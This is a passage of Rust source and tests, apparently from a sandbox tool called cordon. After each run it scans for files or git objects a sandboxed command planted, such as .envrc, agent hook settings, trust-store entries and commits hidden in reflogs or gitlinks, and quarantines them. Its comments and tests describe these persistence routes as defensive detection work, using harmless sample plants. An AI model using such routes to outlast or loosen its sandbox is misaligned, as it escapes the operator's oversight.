    /// of several take each other's only there. A path an earlier run could not list (past
    /// what a run keeps) is taken from the next that holds it, or from `own`. `None` when one
    /// of them is not what [`Snapshot::kept`] writes: nothing can be told.
    pub fn overlapping(
        own: &[u8],
        roots: &[PathBuf],
        earlier: &[(&[PathBuf], &[u8])],
    ) -> Option<Vec<u8>> {
        let own = Kept::parse(own)?;
        let earlier = earlier
            .iter()
            .map(|(r, b)| Some((*r, Kept::parse(b)?)))
            .collect::<Option<Vec<_>>>()?;
        // Which earlier run speaks for `path`: the first whose roots hold it and that listed
        // what it saw there (all it saw, or this path).
        let owner = |path: &Path| {
            earlier.iter().position(|(r, k)| {
                r.iter().any(|t| path.starts_with(t))
                    && (k.unlisted == 0 || k.seen.contains_key(path))
            })
        };
        let ours = |path: &Path| roots.iter().any(|r| path.starts_with(r));
        let mut seen: BTreeMap<PathBuf, Seen> = own
            .seen
            .iter()
            .filter(|(p, _)| owner(p).is_none())
            .map(|(p, s)| (p.clone(), s.clone()))
            .collect();
        for (i, (_, k)) in earlier.iter().enumerate() {
            for (p, s) in &k.seen {
                if ours(p) && owner(p) == Some(i) {
                    seen.insert(p.clone(), s.clone());
                }
            }
        }
        // The git directories' states the same way; not kept (too large) stays not kept.
        let git = own.git.as_ref().map(|mine| {
            let mut git: BTreeMap<PathBuf, git_state::GitState> = mine
                .iter()
                .filter(|(d, _)| owner(d).is_none())
                .map(|(d, g)| (d.clone(), g.clone()))
                .collect();
            for (i, (_, k)) in earlier.iter().enumerate() {
                for (d, g) in k.git.iter().flatten() {
                    if ours(d) && owner(d) == Some(i) {
                        git.insert(d.clone(), g.clone());
                    }
                }
            }
            git
        });
        let merged = Snapshot {
            seen,
            git: git.clone().unwrap_or_default(),
            ..Snapshot::default()
        };
        let mut bytes = merged.kept();
        if git.is_none() {
            // Only the head and the paths: what a snapshot whose git states were too large
            // to keep writes.
            let body = u32::from_le_bytes(
                bytes[KEEP_HEAD.len()..KEEP_HEAD.len() + 4]
                    .try_into()
                    .ok()?,
            ) as usize;
            bytes.truncate(KEEP_HEAD.len() + 12 + body);
        }
        Some(bytes)
    }

    fn parse(bytes: &[u8]) -> Option<Kept> {
        let mut head = Bytes(bytes.strip_prefix(KEEP_HEAD)?);
        let (len, left_out, unlisted) = (head.word()?, head.word()? as u32, head.word()? as u32);
        let mut b = Bytes(head.take(len)?);
        // The git states, when kept: a length and that many bytes, to the end.
        let git = match head.0 {
            [] => None,
            _ => {
                let n = head.word()?;
                if head.0.len() != n {
                    return None;
                }
                Some(git_state::GitState::from_kept(head.0)?)
            }
        };
        let mut whys = Vec::new();
        for _ in 0..b.word()? {
            let n = b.word()?;
            whys.push(String::from_utf8(b.take(n)?.to_vec()).ok()?);
        }
        let mut seen = BTreeMap::new();
        while !b.0.is_empty() {
            let n = b.word()?;
            let path = PathBuf::from(OsString::from_vec(b.take(n)?.to_vec()));
            let kind = b.word()? as u32;
            let what = *What::ALL.get(b.word()?)?;
            let why = whys.get(b.word()?)?.clone();
            let (mode, uid, gid) = (b.word()? as u32, b.word()? as u32, b.word()? as u32);
            let content = match b.word()? {
                NO_CONTENT => None,
                n => Some(b.take(n)?.to_vec()),
            };
            seen.insert(
                path,
                Seen {
                    what,
                    why: why.into(),
                    // Only the kind is compared ([`Snapshot::removed_since`]).
                    id: (kind, 0, 0, 0, 0, 0, 0, 0, mode),
                    content,
                    mode,
                    owner: (uid, gid),
                },
            );
        }
        Some(Kept {
            seen,
            git,
            left_out,
            unlisted,
        })
    }
}

/// What is left to read of [`Snapshot::kept`]'s bytes.
struct Bytes<'a>(&'a [u8]);

impl<'a> Bytes<'a> {
    fn take(&mut self, n: usize) -> Option<&'a [u8]> {
        let (a, rest) = (self.0.get(..n)?, self.0.get(n..)?);
        self.0 = rest;
        Some(a)
    }

    fn word(&mut self) -> Option<usize> {
        Some(u32::from_le_bytes(self.take(4)?.try_into().ok()?) as usize)
    }
}

/// An index file's bytes: a regular file (links followed, as git does) of at most
/// [`MAX_INDEX`] bytes, opened without blocking.
fn read_index(path: &Path) -> Option<Vec<u8>> {
    cordon_fs::safe::read_followed(path, MAX_INDEX)
        .ok()
        .flatten()
}

/// Renames `path` aside (never over an existing name); a changed small regular file gets its
/// earlier content back in its place, with its earlier permissions. Everything happens in the
/// directory `path` names, opened one component at a time without following a symlink: a
/// process of the run that outlived it cannot turn a directory on the way into a link that
/// sends cordon (perhaps root) renaming or writing elsewhere.
/// A path in a writable root that did not exist before the run and must not appear by it:
/// the other default place of cordon's trust store (`~/.config/cordon` while XDG_CONFIG_HOME
/// points elsewhere). The store in use is kept from the command by the sandbox; this one is
/// used only when the operator later runs without XDG_CONFIG_HOME, and a command that made
/// it with an entry would choose that run's policy. Keeping a missing name from being created
/// is what Landlock cannot do (and bwrap only by covering the first missing component, which
/// would hide `~/.config` from the command), so it is watched instead: after the run, the
/// place is moved aside if it exists, or the link (or file) on the way that would lead it
/// elsewhere. Directories the run made on the way (`~/.config` itself) stay.
#[derive(Debug, Clone)]
pub struct MissingPlace {
    root: PathBuf,
    /// Canonical where it exists (the roots are), so every existing component is a directory
    /// or the one file that kept the store from being there.
    place: PathBuf,
    /// (dev, ino) of the components that existed before the run.
    before: Vec<(u64, u64)>,
}

impl MissingPlace {
    /// Watches `place` when it lies below `root` and does not exist; `None` otherwise.
    pub fn watch(root: &Path, place: &Path) -> Option<MissingPlace> {
        let rel = place.strip_prefix(root).ok()?;
        if rel.as_os_str().is_empty() || std::fs::symlink_metadata(place).is_ok() {
            return None;
        }
        let mut before = Vec::new();
        let mut cur = root.to_path_buf();
        for c in rel.components() {
            cur.push(c);
            match std::fs::symlink_metadata(&cur) {
                Ok(m) => before.push((m.dev(), m.ino())),
                Err(_) => break,
            }
        }
        Some(MissingPlace {
            root: root.to_path_buf(),
            place: place.to_path_buf(),
            before,
        })
    }

    /// Every default place of cordon's trust store for this process's environment
    /// ([`cordon_policy::trust::store_dirs`]) that lies in one of `roots` (canonical) and does
    /// not exist: what a run over `roots` must not leave there.
    pub fn trust_stores_in(roots: &[PathBuf]) -> Vec<MissingPlace> {
        MissingPlace::trust_store_places()
            .iter()
            .flat_map(|place| {
                roots
                    .iter()
                    .filter_map(move |r| MissingPlace::watch(r, place))
            })
            .collect()
    }

    /// The default places of cordon's trust store for this process's environment, as the
    /// roots are: canonical, for what exists of each.
    fn trust_store_places() -> Vec<PathBuf> {
        cordon_policy::trust::store_dirs(|n| std::env::var_os(n))
            .iter()
            .map(|place| crate::profile::canonical(place, &|p| std::fs::canonicalize(p)))
            .collect()
    }

    /// Whether this watch is of a default place of the trust store in this process's
    /// environment — under any reading of the way to it now: a run may since have turned a
    /// directory on the way into a link, so each existing ancestor's canonical path with the
    /// rest as named counts. A watch read back from a marker is acted on only then.
    pub fn is_a_trust_store_place_here(&self) -> bool {
        cordon_policy::trust::store_dirs(|n| std::env::var_os(n))
            .iter()
            .any(|store| {
                store.ancestors().any(|a| {
                    std::fs::canonicalize(a).is_ok_and(|real| {
                        store
                            .strip_prefix(a)
                            .is_ok_and(|rest| real.join(rest) == self.place)
                    })
                })
            })
    }

    /// The watch as a run left it on record: its root, its place and the (dev, ino) of the
    /// components that existed before the run ([`MissingPlace::parts`]). A cordon that was
    /// killed before its after-run scan hands its watches to the next run this way.
    pub fn recorded(root: PathBuf, place: PathBuf, before: Vec<(u64, u64)>) -> MissingPlace {
        MissingPlace {
            root,
            place,
            before,
        }
    }

    /// (root, place, before): what [`MissingPlace::recorded`] takes back.
    pub fn parts(&self) -> (&Path, &Path, &[(u64, u64)]) {
        (&self.root, &self.place, &self.before)
    }

    /// After the run: what appeared at the place, or leads to it, moved aside.
    pub fn check(&self) -> Option<Finding> {
        let rel = self.place.strip_prefix(&self.root).ok()?;
        let mut cur = self.root.clone();
        for (i, c) in rel.components().enumerate() {
            cur.push(c);
            let m = std::fs::symlink_metadata(&cur).ok()?;
            let other = m.file_type().is_symlink() || !m.is_dir();
            if other && self.before.get(i) == Some(&(m.dev(), m.ino())) {
                // The file that was there before: nothing lies beneath it.
                return None;
            }
            if cur == self.place || other {
                let mut f = Finding {
                    path: cur.clone(),
                    what: What::TrustStore,
                    change: Change::Appeared,
                    why: "at (or on the way to) a default place of cordon's trust store, where \
                          an entry would choose the policy of a later run"
                        .into(),
                    handling: Handling::Reported(String::new()),
                };
                f.handling = quarantine(&f, None, None);
                return Some(f);
            }
        }
        None
    }
}

type Id = (u32, u64, u64, u64, i64, i64, i64, i64, u32);

/// What cordon itself put in place in this process, with the identity it had then: where it
/// moved a finding aside (and what lies inside, when that was a directory) and the earlier
/// content it restored. A later scan in the same process — a wrapped MCP server's exit scan
/// after the checks of its tool calls ([`Watch`]), which compares with the state before the
/// server started — does not report these again; anything changed since (a new ctime, a new
/// inode, another path) is reported as ever.
///
/// A restored file is remembered with the content cordon wrote: its identity is read back by
/// path after the write, and a server still running (a wrapped MCP server, which can watch
/// for the restore itself) may write in between, within one tick of the coarse clock that
/// stamps ctime — the identity alone would then take the server's version for cordon's.
static OWN: std::sync::Mutex<BTreeMap<PathBuf, Own>> = std::sync::Mutex::new(BTreeMap::new());

/// What cordon put at a path: its identity then, and for a restored file its content.
type Own = (Id, Option<Vec<u8>>);

/// How many paths one quarantined directory registers in [`OWN`] (beyond: reported again at a
/// later scan, which is noise, not a loss).
const MAX_OWN: usize = 10_000;

fn own() -> std::sync::MutexGuard<'static, BTreeMap<PathBuf, Own>> {
    OWN.lock().unwrap_or_else(|e| e.into_inner())
}

/// Registers `path` (and, for a directory, what lies inside, not following links) in [`OWN`].
fn remember(path: &Path) {
    let mut stack = vec![path.to_path_buf()];
    let mut n = 0;
    while let Some(p) = stack.pop() {
        let Ok(m) = std::fs::symlink_metadata(&p) else {
            continue;
        };
        if m.is_dir() {
            if let Ok(rd) = std::fs::read_dir(&p) {
                stack.extend(rd.flatten().map(|e| e.path()));
            }
        }
        own().insert(p, (identity(&m), None));
        n += 1;
        if n >= MAX_OWN {
            break;
        }
    }
}

/// Whether cordon itself put `path` in place as it is now (see [`OWN`]).
fn is_own(path: &Path, now: &Seen) -> bool {
    own().get(path).is_some_and(|(id, content)| {
        *id == now.id
            && content
                .as_ref()
                .is_none_or(|c| now.content.as_ref() == Some(c))
    })
}

/// Registers `path`, just restored with `content`, in [`OWN`].
fn remember_restored(path: &Path, content: &[u8]) {
    if let Ok(m) = std::fs::symlink_metadata(path) {
        own().insert(path.to_path_buf(), (identity(&m), Some(content.to_vec())));
    }
}

/// Moves `f.path` aside (never over an existing name); a changed small regular file gets its
/// earlier content back in its place, with its earlier owner and permissions. With a
/// `journal`, the move is written there first and the entry removed once done: a cordon
/// killed in between leaves it for the next run to finish ([`Journal::recover`]). Without one
/// (or when the entry cannot be written: a full disk), the move happens anyway, since the
/// plant must go.
fn quarantine(
    f: &Finding,
    earlier: Option<journal::Earlier>,
    journal: Option<&Journal>,
) -> Handling {
    let (Some(parent), Some(name)) = (f.path.parent(), f.path.file_name()) else {
        return Handling::Reported("could not move it aside: no parent directory".into());
    };
    // The file to move, by identity: what the journal's recovery looks for.
    let id = match cordon_fs::safe::Dir::open_absolute(parent)
        .and_then(|d| d.stat_at(Path::new(name)))
    {
        Ok(Some(st)) => (st.st_dev, st.st_ino),
        Ok(None) => return Handling::Reported("could not move it aside: it is gone".into()),
        Err(e) => return Handling::Reported(format!("could not move it aside: {e}")),
    };
    let m = journal::Move {
        roots: journal.map(|j| j.roots().to_vec()).unwrap_or_default(),
        path: f.path.clone(),
        what: f.what,
        why: f.why.clone(),
        change: f.change,
        id,
        staging: Journal::staging_name(name),
        earlier,
    };
    // Not journaled (a full disk): the move goes on, and what a failed restore loses is said
    // in its finding.
    let entry = journal.and_then(|j| j.begin(&m).ok());
    if journal::killed(journal::Step::Journaled) {
        return Handling::Reported("killed (a test)".into());
    }
    let (handling, left) = m.finish(entry.as_ref().map(|e| e.path()).as_deref());
    if let Some(e) = entry {
        e.done(left);
    }
    handling
}

/// The paths of the gitlinks (mode 160000 entries) in a git index file, versions 2, 3 and 4
/// (`Documentation/gitformat-index.txt`); `None` when it is not one.
#[cfg(test)]
pub fn gitlinks(index: &[u8]) -> Option<Vec<Vec<u8>>> {
    Some(gitlinks_of(index)?.0)
}

/// [`gitlinks`], with the length of the index's object ids.
fn gitlinks_of(index: &[u8]) -> Option<(Vec<Vec<u8>>, usize)> {
    const GITLINK: u32 = 0o160000;
    visit_index(index, |links, name, mode, _| {
        if mode == GITLINK {
            links.push(name.to_vec());
        }
    })
}

/// What `each(out, name, mode, id)` collects from every entry of a git index file, with the
/// length of its object ids; `None` when it is not one. Object ids are SHA-1 (20 bytes) or
/// SHA-256 (32): the index does not say which, so both are tried and the one that reads every
/// entry cleanly wins (what a failed try collected is dropped).
fn visit_index<T>(
    index: &[u8],
    each: impl Fn(&mut Vec<T>, &[u8], u32, &[u8]),
) -> Option<(Vec<T>, usize)> {
    if index.len() < 12 || &index[..4] != b"DIRC" {
        return None;
    }
    let version = u32::from_be_bytes(index[4..8].try_into().ok()?);
    let count = u32::from_be_bytes(index[8..12].try_into().ok()?) as usize;
    if !(2..=4).contains(&version) {
        return None;
    }
    [20usize, 32].into_iter().find_map(|hash| {
        let mut out = Vec::new();
        parse_entries(index, version, count, hash, &mut |n, m, id| {
            each(&mut out, n, m, id)
        })?;
        Some((out, hash))
    })
}

/// What is called with each index entry's name, mode and object id.
type EachEntry<'a> = dyn FnMut(&[u8], u32, &[u8]) + 'a;

fn parse_entries(
    index: &[u8],
    version: u32,
    count: usize,
    hash: usize,
    each: &mut EachEntry,
) -> Option<()> {
    let mut at = 12usize;
    let mut prev: Vec<u8> = Vec::new();
    for _ in 0..count {
        let start = at;
        // ctime, mtime (8 each), dev, ino, mode, uid, gid, size (4 each), id, flags (2).
        let fixed = 40 + hash + 2;
        let head = index.get(at..at + fixed)?;
        let mode = u32::from_be_bytes(head[24..28].try_into().ok()?);
        let oid = &head[40..40 + hash];
        let flags = u16::from_be_bytes(head[40 + hash..].try_into().ok()?);
        at += fixed;
        if flags & 0x4000 != 0 {
            if version < 3 {
                return None;
            }
            at += 2; // extended flags
        }
        let name = if version == 4 {
            // The number of bytes to drop from the previous name (a varint), then the rest,
            // NUL-terminated; no padding.
            let (strip, used) = varint(index.get(at..)?)?;
            at += used;
            let end = at + index.get(at..)?.iter().position(|&b| b == 0)?;
            let keep = prev.len().checked_sub(strip as usize)?;
            let mut name = prev[..keep].to_vec();
            name.extend_from_slice(&index[at..end]);
            at = end + 1;
            name
        } else {
            let end = at + index.get(at..)?.iter().position(|&b| b == 0)?;
            let name = index[at..end].to_vec();
            // Entries are padded with 1-8 NULs to a multiple of 8 bytes.
            let len = end - start;
            at = start + (len + 8) / 8 * 8;
            if at > index.len() {
                return None;
            }
            name
        };
        if name.is_empty() || name.contains(&0) {
            return None;
        }
        each(&name, mode, oid);
        prev = name;
    }
    // Extensions (4-byte signature, 4-byte size) then the checksum must fill the rest exactly.
    loop {
        let rest = index.len().checked_sub(at)?;
        if rest == hash {
            return Some(());
        }
        let head = index.get(at..at + 8)?;
        let size = u32::from_be_bytes(head[4..8].try_into().ok()?) as usize;
        at = at.checked_add(8 + size)?;
    }
}

/// Git's offset varint (`varint.c`): 7 bits a byte, high bit continues, +1 per continuation.
fn varint(b: &[u8]) -> Option<(u64, usize)> {
    let mut i = 0;
    let mut c = *b.first()?;
    let mut v = u64::from(c & 0x7f);
    while c & 0x80 != 0 {
        i += 1;
        c = *b.get(i)?;
        v = v.checked_add(1)?.checked_shl(7)? | u64::from(c & 0x7f);
    }
    Some((v, i + 1))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The startup files' reading kept by a snapshot is what `surface::startup::places` reads,
    /// and a later snapshot takes it while every file it consulted is as it was: a file
    /// rewritten (same size), a startup file that appears, one sourced that goes, each makes
    /// it read again, and then its places are the reader's. One not settled (written in the
    /// same moment as the reading) is not kept.
    #[test]
    fn the_startup_reading_is_taken_while_its_files_are_as_they_were() {
        use cordon_policy::surface::startup;
        let d = tempfile::tempdir().unwrap();
        let home = std::fs::canonicalize(d.path()).unwrap();
        std::fs::create_dir_all(home.join(".cargo")).unwrap();
        std::fs::write(home.join(".profile"), ". \"$HOME/.cargo/env\"\n").unwrap();
        std::fs::write(
            home.join(".cargo/env"),
            "export PATH=\"$HOME/.cargo/bin:$PATH\"\n",
        )
        .unwrap();
        // Read now, right after the files were written: used, not kept.
        let mut fresh = Snapshot::default();
        assert_eq!(
            fresh.startup_places_at(&home, None, SystemTime::now()),
            startup::places(&home)
        );
        assert!(fresh.startup.is_none(), "an unsettled reading was kept");
        // As if the files had been written long before.
        let later = || SystemTime::now() + Duration::from_secs(60);
        let mut first = Snapshot::default();
        let places = first.startup_places_at(&home, None, later());
        assert_eq!(places, startup::places(&home));
        assert_eq!(places.len(), 2, "{places:?}");
        // Taken, not read: marked so that a reading would tell.
        let mut marked = first.clone();
        marked.startup.as_mut().unwrap().places.pop();
        let mut next = Snapshot::default();
        let taken = next.startup_places_at(&home, Some(&marked), later());
        assert_eq!(taken, marked.startup.as_ref().unwrap().places);
        assert_eq!(next.startup, marked.startup, "kept on for the next one");
        // Another home: read.
        let other = tempfile::tempdir().unwrap();
        let other = std::fs::canonicalize(other.path()).unwrap();
        let mut s = Snapshot::default();
        assert!(s
            .startup_places_at(&other, Some(&marked), later())
            .is_empty());
        // Each change to what it consulted: read again, the reader's places.
        let changes: [&dyn Fn(); 3] = [
            &|| {
                std::fs::write(
                    home.join(".cargo/env"),
                    "export PATH=\"$HOME/.cargo/bim:$PATH\"\n",
                )
                .unwrap()
            },
            &|| std::fs::write(home.join(".bashrc"), ". ~/.nvm/nvm.sh\n").unwrap(),
            &|| std::fs::remove_file(home.join(".cargo/env")).unwrap(),
        ];
        let mut earlier = first;
        for (i, change) in changes.iter().enumerate() {
            change();
            let mut s = Snapshot::default();
            let got = s.startup_places_at(&home, Some(&earlier), later());
            assert_eq!(got, startup::places(&home), "change {i}");
            assert_ne!(
                got,
                earlier.startup.as_ref().unwrap().places,
                "change {i} not seen"
            );
            earlier = s;
        }
    }

    #[test]
    fn a_listing_is_the_directorys_own_and_follows_no_link() {
        let d = tempfile::tempdir().unwrap();
        let root = std::fs::canonicalize(d.path()).unwrap();
        std::fs::create_dir(root.join("sub")).unwrap();
        std::fs::write(root.join(".envrc"), "x").unwrap();
        std::os::unix::fs::symlink(root.join("sub"), root.join("link")).unwrap();
        let (state, mut names, count) = list(&root).unwrap();
        names.sort();
        // The link is neither a directory nor a watched name: counted, not kept.
        let want: Vec<(OsString, bool)> = vec![(".envrc".into(), false), ("sub".into(), true)];
        assert_eq!(names, want);
        assert_eq!(count, 3);
        let m = std::fs::symlink_metadata(&root).unwrap();
        assert_eq!(state, (m.dev(), m.ino(), m.ctime(), m.ctime_nsec()));
        // A link to a directory is not listed through, nor is a file.
        assert!(list(&root.join("link")).is_none());
        assert!(list(&root.join(".envrc")).is_none());
        assert!(list(&root.join("missing")).is_none());
        // More names than one 32 KiB read holds: all of them.
        for i in 0..3000 {
            std::fs::write(
                root.join("sub")
                    .join(format!("file-with-a-long-name-{i:05}")),
                "",
            )
            .unwrap();
        }
        let (_, kept, count) = list(&root.join("sub")).unwrap();
        assert_eq!((kept.len(), count), (0, 3000));
    }
    use std::process::Command;

    fn git(dir: &Path, args: &[&str]) {
        let st = Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@t"])
            .args(args)
            .current_dir(dir)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("HOME", dir)
            .output()
            .unwrap();
        assert!(st.status.success(), "git {args:?}: {st:?}");
    }

    fn git_out(dir: &Path, args: &[&str]) -> String {
        let out = Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@t"])
            .args(args)
            .current_dir(dir)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("HOME", dir)
            .output()
            .unwrap();
        assert!(out.status.success(), "git {args:?}: {out:?}");
        String::from_utf8(out.stdout).unwrap()
    }

    fn git_state(found: &[Finding]) -> Vec<&Finding> {
        found.iter().filter(|f| f.what == What::GitState).collect()
    }

    /// A long rebase by the run (600 commits, each a line of HEAD's reflog), one of them
    /// adding `.envrc` and the next dropping it again: every commit the reflog names is
    /// compared (the trees shared with the base read once), and the plant is reported by its
    /// path, not as "could not check".
    #[test]
    fn a_long_rebase_is_compared_whole() {
        use std::io::Write;
        let d = tempfile::tempdir().unwrap();
        let w = std::fs::canonicalize(d.path()).unwrap();
        let roots = [w.clone()];
        git(&w, &["init", "-q"]);
        for dir in ["src/a/b", "src/c", "doc"] {
            std::fs::create_dir_all(w.join(dir)).unwrap();
            for i in 0..20 {
                std::fs::write(w.join(dir).join(format!("f{i}")), format!("{i}")).unwrap();
            }
        }
        git(&w, &["add", "."]);
        git(&w, &["commit", "-q", "-m", "base"]);
        let head = git_out(&w, &["rev-parse", "HEAD"]).trim().to_string();
        let mut before = Snapshot::take(&roots);
        before.started = before.started.map(|t| t + Duration::from_secs(60));
        const N: usize = 600;
        let mut stream = String::new();
        for i in 1..=N {
            stream.push_str(&format!(
                "commit refs/heads/topic\nmark :{i}\ncommitter t <t@t> 1700000000 +0000\ndata 1\nx\n"
            ));
            if i == 1 {
                stream.push_str(&format!("from {head}\n"));
            }
            stream.push_str(&format!(
                "M 100644 inline src/a/b/f1\ndata {}\n{i}\n",
                i.to_string().len()
            ));
            if i == N / 2 {
                stream.push_str("M 100644 inline .envrc\ndata 4\nevil\n");
            }
            if i == N / 2 + 1 {
                stream.push_str("D .envrc\n");
            }
        }
        let marks = w.join("marks");
        let mut c = Command::new("git")
            .args(["fast-import", "--quiet"])
            .arg(format!("--export-marks={}", marks.display()))
            .current_dir(&w)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("HOME", &w)
            .stdin(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        c.stdin
            .take()
            .unwrap()
            .write_all(stream.as_bytes())
            .unwrap();
        assert!(c.wait().unwrap().success());
        let ids: BTreeMap<usize, String> = std::fs::read_to_string(&marks)
            .unwrap()
            .lines()
            .map(|l| {
                let (m, id) = l.split_once(' ').unwrap();
                (m[1..].parse().unwrap(), id.to_string())
            })
            .collect();
        std::fs::remove_file(&marks).unwrap();
        // What `git rebase` writes to HEAD's reflog: a line per commit picked.
        let mut log = std::fs::OpenOptions::new()
            .append(true)
            .open(w.join(".git/logs/HEAD"))
            .unwrap();
        let mut prev = head.clone();
        for i in 1..=N {
            writeln!(
                log,
                "{prev} {} t <t@t> 1700000000 +0000\trebase (pick): x",
                ids[&i]
            )
            .unwrap();
            prev = ids[&i].clone();
        }
        drop(log);
        let t = std::time::Instant::now();
        let after = Snapshot::take(&roots);
        let found = after.findings_since(&before);
        eprintln!("{N} tips compared in {:?}", t.elapsed());
        let staged = git_state(&found);
        assert_eq!(staged.len(), 1, "{found:?}");
        assert_eq!(staged[0].path, w.join(".envrc"));
        assert!(staged[0].why.contains("the reflog of HEAD"), "{staged:?}");
    }

    /// A gitlink moved in a linked worktree's index (`.git/worktrees/wt/index`) to a
    /// submodule commit that adds `.envrc`, made with plumbing in the submodule's git
    /// directory (`.git/modules/sub`; no ref, no reflog names it): what the operator's `git
    /// submodule update` in that worktree checks out is reported at its path there.
    #[test]
    fn a_gitlink_moved_in_a_linked_worktrees_index() {
        use std::io::Write;
        let d = tempfile::tempdir().unwrap();
        let base = std::fs::canonicalize(d.path()).unwrap();
        let (up, w) = (base.join("up"), base.join("w"));
        for r in [&up, &w] {
            std::fs::create_dir(r).unwrap();
            git(r, &["init", "-q"]);
            std::fs::write(r.join("a"), "a").unwrap();
            git(r, &["add", "a"]);
            git(r, &["commit", "-q", "-m", "a"]);
        }
        let url = format!("file://{}", up.display());
        git(
            &w,
            &[
                "-c",
                "protocol.file.allow=always",
                "submodule",
                "add",
                "-q",
                &url,
                "sub",
            ],
        );
        git(&w, &["commit", "-q", "-m", "sub"]);
        git(&w, &["worktree", "add", "-q", "wt"]);
        let roots = [w.clone()];
        let before = Snapshot::take(&roots);
        let sub = w.join("sub");
        let plumb = |args: &[&str], input: &str| {
            let mut c = Command::new("git")
                .args(["-c", "user.name=t", "-c", "user.email=t@t"])
                .args(args)
                .current_dir(&sub)
                .env("GIT_CONFIG_NOSYSTEM", "1")
                .env("HOME", &sub)
                .stdin(std::process::Stdio::piped())
                .stdout(std::process::Stdio::piped())
                .spawn()
                .unwrap();
            c.stdin.take().unwrap().write_all(input.as_bytes()).unwrap();
            let out = c.wait_with_output().unwrap();
            assert!(out.status.success(), "{args:?}");
            String::from_utf8(out.stdout).unwrap().trim().to_string()
        };
        let blob = plumb(&["hash-object", "-w", "--stdin"], "evil\n");
        let listing = format!(
            "{}100644 blob {blob}\t.envrc\n",
            git_out(&sub, &["ls-tree", "HEAD"])
        );
        let tree = plumb(&["mktree"], &listing);
        let commit = plumb(&["commit-tree", &tree, "-p", "HEAD", "-m", "p"], "");
        git(
            &w.join("wt"),
            &[
                "update-index",
                "--cacheinfo",
                &format!("160000,{commit},sub"),
            ],
        );
        let after = Snapshot::take(&roots);
        let found = after.findings_since(&before);
        let staged = git_state(&found);
        assert_eq!(staged.len(), 1, "{found:?}");
        assert_eq!(staged[0].path, w.join("wt/sub/.envrc"));
        assert!(
            staged[0].why.contains("the gitlink sub in the index of"),
            "{staged:?}"
        );
        assert!(staged[0].why.contains(".git/worktrees/wt"), "{staged:?}");
    }

    /// A commit holding a surface file that several names hold (two branches, a tag, their
    /// reflogs and HEAD's): the finding names each of them, since the operator must undo each.
    #[test]
    fn every_ref_that_holds_a_plant_is_named() {
        let d = tempfile::tempdir().unwrap();
        let w = std::fs::canonicalize(d.path()).unwrap();
        let roots = [w.clone()];
        git(&w, &["init", "-q"]);
        std::fs::write(w.join("a.txt"), "a").unwrap();
        git(&w, &["add", "."]);
        git(&w, &["commit", "-q", "-m", "a"]);
        let before = Snapshot::take(&roots);
        git(&w, &["checkout", "-q", "-b", "one"]);
        std::fs::write(w.join(".envrc"), "touch /tmp/never").unwrap();
        git(&w, &["add", "."]);
        git(&w, &["commit", "-q", "-m", "p"]);
        git(&w, &["checkout", "-q", "-"]);
        git(&w, &["branch", "two", "one"]);
        git(&w, &["tag", "three", "one"]);
        assert!(!w.join(".envrc").exists());
        let after = Snapshot::take(&roots);
        let found = after.findings_since(&before);
        let staged = git_state(&found);
        assert_eq!(staged.len(), 1, "{found:?}");
        for name in [
            "refs/heads/one's commit",
            "refs/heads/two's commit",
            "refs/tags/three's commit",
            "the reflog of refs/heads/two",
            "the reflog of HEAD",
        ] {
            assert!(staged[0].why.contains(name), "{name}: {staged:?}");
        }
    }

    /// A surface file committed to HEAD (and gone from the worktree and the index), with every
    /// object packed by `git gc --aggressive` (trees stored as deltas), in both hash formats:
    /// read through the pack and reported. An ordinary commit, packed too, reports nothing. A
    /// commit cordon cannot read is reported as not checked.
    #[test]
    fn committed_surface_file_read_from_packs() {
        for format in ["sha1", "sha256"] {
            let d = tempfile::tempdir().unwrap();
            let w = std::fs::canonicalize(d.path()).unwrap();
            let roots = [w.clone()];
            git(&w, &["init", "-q", &format!("--object-format={format}")]);
            std::fs::create_dir(w.join("dir")).unwrap();
            for i in 0..20 {
                std::fs::write(w.join(format!("dir/f{i}.txt")), format!("{i}")).unwrap();
                git(&w, &["add", "."]);
                git(&w, &["commit", "-q", "-m", &format!("{i}")]);
            }
            git(&w, &["gc", "-q", "--aggressive"]);
            let before = Snapshot::take(&roots);
            std::fs::create_dir_all(w.join("dir/.claude")).unwrap();
            std::fs::write(w.join("dir/.claude/settings.json"), "{\"hooks\":{}}").unwrap();
            git(&w, &["add", "."]);
            git(&w, &["commit", "-q", "-m", "p"]);
            git(&w, &["rm", "-q", "-r", "--cached", "dir/.claude"]);
            std::fs::remove_dir_all(w.join("dir/.claude")).unwrap();
            git(&w, &["gc", "-q", "--aggressive"]);
            assert!(
                git_out(&w, &["count-objects", "-v"]).starts_with("count: 0\n"),
                "{format}: not all packed"
            );
            let verify = git_out(
                &w,
                &["verify-pack", "-v", &{
                    let p = std::fs::read_dir(w.join(".git/objects/pack"))
                        .unwrap()
                        .flatten()
                        .find(|e| e.path().extension().is_some_and(|x| x == "idx"))
                        .unwrap();
                    p.path().display().to_string()
                }],
            );
            assert!(
                verify
                    .lines()
                    .any(|l| l.contains(" tree ") && l.split_whitespace().count() > 5),
                "{format}: no tree stored as a delta"
            );
            let after = Snapshot::take(&roots);
            let found = after.findings_since(&before);
            let staged = git_state(&found);
            assert_eq!(staged.len(), 1, "{format}: {found:?}");
            assert_eq!(staged[0].path, w.join("dir/.claude/settings.json"));
            assert!(staged[0].why.contains("HEAD's commit"), "{staged:?}");

            // An ordinary commit over a tree that holds the committed surface file.
            let before = after;
            std::fs::write(w.join("dir/f0.txt"), "changed").unwrap();
            git(&w, &["commit", "-q", "-a", "-m", "o"]);
            git(&w, &["gc", "-q"]);
            let after = Snapshot::take(&roots);
            let found = after.findings_since(&before);
            assert!(git_state(&found).is_empty(), "{format}: {found:?}");

            // A commit whose object cordon cannot read: not checked, said so.
            let before = after;
            std::fs::write(w.join("dir/f1.txt"), "changed").unwrap();
            git(&w, &["commit", "-q", "-a", "-m", "x"]);
            let head = git_out(&w, &["rev-parse", "HEAD"]);
            let head = head.trim();
            std::fs::remove_file(w.join(".git/objects").join(&head[..2]).join(&head[2..])).unwrap();
            let after = Snapshot::take(&roots);
            let found = after.findings_since(&before);
            let staged = git_state(&found);
            assert_eq!(staged.len(), 1, "{format}: {found:?}");
            assert!(staged[0].why.contains("could not check"), "{staged:?}");
        }
    }

    /// A commit with a surface file whose only trace is an earlier line of a reflog rewritten
